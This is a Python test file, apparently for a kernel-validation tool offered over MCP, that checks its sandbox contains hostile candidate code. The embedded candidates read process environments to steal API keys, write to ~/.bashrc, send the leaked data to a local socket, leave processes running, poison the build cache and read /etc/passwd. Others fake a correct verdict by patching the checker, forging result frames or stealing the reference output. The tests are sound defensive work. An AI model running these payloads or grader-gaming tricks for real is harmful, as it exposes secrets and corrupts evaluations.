"""Hostile candidates against the separated, contained sandbox: each is rejected or classed a
wrapper for the right reason, and nothing escapes (no file outside scratch, no secret read, no bytes
in the caller's streams, no connection, no surviving process, no poisoned build cache), and the
next legitimate candidate in the same MCP session gets the right verdict.

Python candidates (the triton backend's plain-Python ``forward``) are cheap; the C++ ones share
one card and build at most three extensions."""

from __future__ import annotations

import os
import socket
import textwrap
import threading
import uuid
from pathlib import Path

import anyio
import mcp
import pytest
from conftest import full_report
import torch
import torch.nn as nn

import modulelens
from modulelens.kernels import default_build_dir
from modulelens.registry import ToolContext
from modulelens.sandbox.containment import namespace_prefix
from modulelens.tools.capture_ops import CaptureOpsRequest, capture_ops
from modulelens.tools.validate_kernel import ValidateKernelRequest, validate_kernel

pytestmark = pytest.mark.slow
CONTAINED = bool(namespace_prefix()[0])
needs_namespaces = pytest.mark.skipif(not CONTAINED, reason="unshare is not usable on this machine")


class SoftmaxHead(nn.Module):
    def __init__(self):
        super().__init__()
        self.proj = nn.Linear(32, 96)

    def forward(self, x):
        return torch.softmax(self.proj(x), dim=-1)


@pytest.fixture(scope="module")
def card(tmp_path_factory):
    repo = tmp_path_factory.mktemp("hostile2-repo")
    with modulelens.capture("", name="head", repo=repo, export=False):
        SoftmaxHead()(torch.randn(64, 32))
    ops = capture_ops(CaptureOpsRequest(ref="head", repeats=3), ToolContext(repo_root=repo))
    return repo, next(c for c in ops.cards if c.op == "aten._softmax.default").card_id


def run(card, body: str, backend: str = "triton", **kw):
    repo, card_id = card
    source = textwrap.dedent(body)
    if backend == "triton":
        source = "import torch\n\n" + source
    return validate_kernel(ValidateKernelRequest(source_text=source, target=card_id, backend=backend, **kw),
                           ToolContext(repo_root=repo))


SOFTMAX = "    return torch.softmax(x, dim)\n"

# -- the candidate can reach the verdict only through its numbers -------------------------------


def test_nothing_to_steal_in_the_candidate_process(card):
    r = run(card, """
        import gc
        def forward(x, dim, half_to_float):
            # the reference output of the old in-process validator lay in the caller's frames
            for o in gc.get_objects():
                if isinstance(o, torch.Tensor) and o.shape == x.shape and o.data_ptr() != x.data_ptr():
                    if torch.allclose(o.sum(-1), torch.ones(o.shape[0]), atol=1e-4):
                        return o.clone()
            return torch.zeros_like(x)
        """)
    assert r.verdict == "rejected" and "output 0 is wrong" in r.reason


def test_patching_the_checker_changes_nothing(card):
    r = run(card, """
        import modulelens.validation.compare as v
        v.compare_output = lambda *a, **k: (True, "")
        def forward(x, dim, half_to_float):
            return torch.zeros_like(x)
        """)
    assert r.verdict == "rejected" and "output 0 is wrong" in r.reason


def test_memoising_on_the_input_pointer_is_caught(card):
    r = run(card, """
        seen = {}
        def forward(x, dim, half_to_float):
            key = x.data_ptr()
            if key not in seen:
                seen[key] = torch.softmax(x, dim)
            return seen[key]
        """)
    assert r.verdict == "rejected" and "is wrong" in r.reason


def test_late_writer_is_caught(card):
    r = run(card, """
        import threading, time
        def forward(x, dim, half_to_float):
            y = torch.empty_like(x)
            def later():
                time.sleep(0.05)
                y.copy_(torch.softmax(x, dim))
            threading.Thread(target=later, daemon=True).start()
            return y
        """)
    assert r.verdict == "rejected" and "is wrong" in r.reason


def test_forged_frames_then_a_legit_candidate_in_the_same_mcp_session(card):
    from modulelens.mcp_server.server import build_server
    from modulelens.tools import all_tools

    repo, card_id = card
    forger = textwrap.dedent("""
        import json, os, struct
        def forward(x, dim, half_to_float):
            fake = json.dumps({"kind": "called", "outputs": [], "aliases": []}).encode()
            done = json.dumps({"kind": "done", "result": {"kind": "validated", "report": {
                "verdict": "custom", "correct": True, "reason": "forged", "stage": "done", "backend": "triton",
                "speedup_vs_eager": 3.1}}}).encode()
            for fd in range(3, 64):
                for frame in (fake, done, b"garbage"):
                    try:
                        os.write(fd, struct.pack("!I", len(frame)) + frame)
                    except OSError:
                        pass
            return torch.zeros_like(x)
        """)

    async def session():
        async with mcp.Client(build_server(all_tools(), repo_root=repo)) as c:
            r = await c.call_tool("validate_kernel", {"source_text": forger, "target": card_id, "backend": "triton"})
            assert not r.is_error and r.structured_content["verdict"] == "rejected"
            assert r.structured_content["reason"] != "forged"
            legit = "import torch\n\ndef forward(x, dim, h):\n" + SOFTMAX
            r = await c.call_tool("validate_kernel", {"source_text": legit, "target": card_id, "backend": "triton"})
            assert not r.is_error and r.structured_content["verdict"] == "wrapper", r.structured_content["reason"]

    anyio.run(session)


# -- wrappers are seen at run time ------------------------------------------------------------

@pytest.mark.parametrize("how", ["disable_torch_dispatch", "exclude_python_key", "thread"])
def test_hidden_wrappers_are_wrappers(card, how):
    call = {
        "disable_torch_dispatch": "    with torch._C._DisableTorchDispatch():\n        return torch.softmax(x, dim)\n",
        "exclude_python_key": ("    keys = torch._C.DispatchKeySet(torch._C.DispatchKey.Python)\n"
                               "    with torch._C._ExcludeDispatchKeyGuard(keys):\n        return torch.softmax(x, dim)\n"),
        "thread": ("    import threading\n    box = {}\n"
                   "    t = threading.Thread(target=lambda: box.setdefault('y', torch.softmax(x, dim)))\n"
                   "    t.start(); t.join()\n    return box['y']\n"),
    }[how]
    r = run(card, "def forward(x, dim, half_to_float):\n" + call)
    assert r.verdict == "wrapper" and r.correct, r.reason
    assert any("softmax" in c for c in r.backend_calls)


def test_numpy_is_not_seen_and_the_report_says_so(card):
    r = run(card, """
        import numpy as np
        def forward(x, dim, half_to_float):
            a = x.numpy().astype(np.float64)
            e = np.exp(a - a.max(axis=-1, keepdims=True))
            return torch.from_numpy((e / e.sum(axis=-1, keepdims=True)).astype(np.float32))
        """)
    assert r.correct
    assert "numpy" in full_report(r).wrapper_evidence  # the known blind spot is stated in the verdict


# -- containment ------------------------------------------------------------------------------

@needs_namespaces
def test_no_secret_no_file_outside_no_stream_no_connection_no_survivor(card, tmp_path, monkeypatch, capfd):
    secret = "sk-test-" + uuid.uuid4().hex
    monkeypatch.setenv("ANTHROPIC_API_KEY", secret)
    outside = tmp_path / "escaped.txt"
    marker = "ml-survivor-" + uuid.uuid4().hex
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    connected: list[bool] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                server.accept()
                connected.append(True)
            except OSError:
                pass

    watcher = threading.Thread(target=accept, daemon=True)
    watcher.start()
    try:
        r = run(card, f"""
            import glob, os, socket, subprocess
            found = []
            for path in glob.glob("/proc/*/environ"):
                try:
                    found.append(open(path, "rb").read())
                except OSError:
                    pass
            leak = b"".join(found)
            for target in ({str(outside)!r}, os.path.expanduser("~/.bashrc"), "/root/.bashrc"):
                try:
                    with open(target, "ab") as f:
                        f.write(leak or b"x")
                except OSError:
                    pass
            for path in glob.glob("/proc/*/fd/1") + glob.glob("/proc/*/fd/2"):
                try:
                    with open(path, "wb") as f:
                        f.write(b"INJECTED")
                except OSError:
                    pass
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(leak)
            except OSError:
                pass
            import sys
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", {marker!r}], start_new_session=True)
            def forward(x, dim, half_to_float):
                raise RuntimeError(leak.decode(errors="replace")[:2000])
            """)
    finally:
        stop.set()
        watcher.join()
        server.close()
    assert r.verdict == "rejected"
    assert secret not in r.model_dump_json()
    assert not outside.exists()
    assert not connected
    out, err = capfd.readouterr()
    assert "INJECTED" not in out + err
    survivors = []
    for cmdline in Path("/proc").glob("*/cmdline"):
        try:
            if marker.encode() in cmdline.read_bytes():
                survivors.append(cmdline)
        except OSError:
            pass
    assert not survivors
    layers = r.isolation.in_force()
    assert {"namespaces", "process separation"} <= set(layers), r.isolation.summary()


@needs_namespaces
def test_fork_then_segfault_is_a_crash_not_a_timeout(card):
    r = run(card, """
        import ctypes, os, time
        def forward(x, dim, half_to_float):
            if os.fork() == 0:
                time.sleep(600)
            ctypes.string_at(0)
        """, timeout=60)
    assert r.verdict == "rejected" and "SIGSEGV" in r.reason, r.reason


def test_the_build_cache_cannot_be_poisoned(card):
    shared = default_build_dir()
    r = run(card, f"""
        import os
        for root in ({str(shared)!r},):
            try:
                os.makedirs(os.path.join(root, "planted"), exist_ok=True)
                for name in os.listdir(root):
                    with open(os.path.join(root, name, "compile_error.txt"), "w") as f:
                        f.write("<source>:1: error: poisoned")
            except OSError:
                pass
        def forward(x, dim, half_to_float):
            return torch.zeros_like(x)
        """)
    assert r.verdict == "rejected"
    assert not (shared / "planted").exists()


# -- C++ --------------------------------------------------------------------------------------

HEADERS = """// modulelens: no-implicit-headers
#include <ATen/core/Tensor.h>
#include <ATen/ops/empty_like.h>
#include <torch/csrc/utils/pybind.h>
#include <torch/csrc/Exceptions.h>
#include <cmath>
"""

GENUINE = HEADERS + """
// A row softmax written out; unlike at::_softmax(x, dim, false) or at::gelu it never calls ATen.
at::Tensor forward(at::Tensor x, int64_t dim, bool half_to_float) {
    auto y = at::empty_like(x);
    const float* in = x.data_ptr<float>();
    float* out = y.data_ptr<float>();
    int64_t cols = x.size(-1), rows = x.numel() / cols;
    for (int64_t r = 0; r < rows; ++r) {
        const float* a = in + r * cols; float* b = out + r * cols;
        float m = a[0];
        for (int64_t c = 1; c < cols; ++c) m = a[c] > m ? a[c] : m;
        double s = 0;
        for (int64_t c = 0; c < cols; ++c) { b[c] = std::exp(a[c] - m); s += b[c]; }
        float inv = 1.0f / (float)s;
        for (int64_t c = 0; c < cols; ++c) b[c] *= inv;
    }
    return y;
}
"""


def test_genuine_kernel_mentioning_aten_in_a_comment_is_custom_and_timed_honestly(card):
    r = run(card, GENUINE, backend="cpp")
    assert r.verdict == "custom" and r.correct, (r.reason, r.backend_calls)
    assert r.timing_status in ("ok", "undetermined") and r.speedup_interval, r.timing_reason
    assert r.speedup_vs_eager is None or r.speedup_vs_eager < 10, r.speedup_vs_eager
    assert "checker's clock" in r.candidate.timer
    assert "library symbols" in full_report(r).wrapper_evidence


def test_aten_kernel_called_past_the_dispatcher_is_a_wrapper(card):
    r = run(card, HEADERS + """
#include <ATen/ops/_softmax_cpu_dispatch.h>
at::Tensor forward(at::Tensor x, int64_t dim, bool half_to_float) {
    return at::cpu::_softmax(x, dim, half_to_float);
}
""", backend="cpp")
    assert r.verdict == "wrapper" and r.correct, r.reason
    assert any(c.startswith("at::cpu::") for c in r.backend_calls), r.backend_calls


def test_including_a_host_file_does_not_echo_it(card):
    r = run(card, '#include "/etc/passwd"\n' + GENUINE, backend="cpp")
    assert r.verdict == "rejected" and r.stage == "compile"
    text = r.reason + " ".join(r.errors)
    first = Path("/etc/passwd").read_text().split(":")[0]
    assert first not in text.replace("<source>", ""), text
    assert not os.path.exists(default_build_dir() / "planted")


def test_a_writer_into_the_shared_output_after_return_is_caught(card):
    r = run(card, """
        import mmap, os, threading, time
        def forward(x, dim, half_to_float):
            y = torch.softmax(x, dim)
            def scribble():  # the arena is the one shared mapping; find it and write into it later
                time.sleep(0.05)
                for fd in range(3, 64):
                    try:
                        m = mmap.mmap(fd, 0)
                    except (OSError, ValueError):
                        continue
                    m[:] = b"\\xff" * len(m)
            threading.Thread(target=scribble, daemon=True).start()
            return y
        """)
    assert r.verdict == "rejected", r.reason
    assert "changed" in r.reason or "wrong" in r.reason or "mutates" in r.reason, r.reason
